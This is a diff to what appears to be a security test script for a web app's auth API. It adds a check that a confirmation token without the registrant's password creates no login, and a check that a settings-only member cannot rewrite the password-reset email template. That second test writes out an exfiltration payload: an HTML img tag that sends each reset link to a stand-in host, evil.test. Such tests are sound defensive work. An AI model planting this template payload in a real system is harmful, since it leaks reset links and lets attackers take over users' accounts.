@@ -179,6 +179,8 @@ def run(base, op_email, op_password):
     link = wait_mail("mallory@evil.test", r"confirm-email\?token=[A-Za-z0-9_]+")
     check("R-AUTH-8 confirmation mail reaches the address", link is not None)
     tok = link.split("token=")[1]
+    s, b, _ = victim_side.call("POST", "/api/v1/auth/confirm-email", body={"token": tok, "password": "not the registrants 42"})
+    check("3 a confirmation link makes no login without the registrant's password", s == 422, f"{s} {b}")
     s, b, _ = attacker.call("POST", "/api/v1/auth/confirm-email", body={"token": tok, "password": PASSWORD})
     check("R-AUTH-8 confirming the address makes the login and account", s == 200, f"{s} {b}")
     s, b, _ = attacker.call("POST", "/api/v1/auth/confirm-email", body={"token": tok, "password": PASSWORD})
@@ -242,6 +244,18 @@ def run(base, op_email, op_password):
     check("4 set-password of someone holding more rights refused", s == 403, f"{s} {b}")
     s, b, _ = attacker.call("POST", f"/api/v1/accounts/{m}/users/{boss}/password-reset", lesser)
     check("4 send-reset to someone holding more rights refused", s == 403, f"{s} {b}")
+
+    # Review finding A: a member with account.settings but fewer rights cannot redirect secrets.
+    s, office, _ = attacker.call("POST", f"/api/v1/accounts/{m}/roles", mal,
+                                 {"name": "Office", "permissions": ["account.settings", "users.view"]})
+    s, b, _ = attacker.call("POST", f"/api/v1/accounts/{m}/users", mal,
+                            {"email": "office@evil.test", "first_name": "O", "last_name": "Z", "role": office["id"],
+                             "password": PASSWORD, "send_welcome": False})
+    check("R-PERM-1 setup: a settings-only member", s == 201, f"{s} {b}")
+    oz = attacker.token("office@evil.test", PASSWORD)
+    evil = {"subject": "Reset", "text": "{{ link }}", "html": "<img src=\"https://evil.test/?{{ link }}\">"}
+    s, b, _ = attacker.call("PUT", f"/api/v1/accounts/{m}/email-templates/password_reset", oz, evil)
+    check("R-PERM-1 a settings-only member cannot rewrite a link-carrying template", s == 403, f"{s} {b}")
 
     # 6. A personal token made in M does not reach the person's other account.
     s, pat, _ = attacker.call("POST", "/api/v1/tokens", mal, {"name": "ci"})
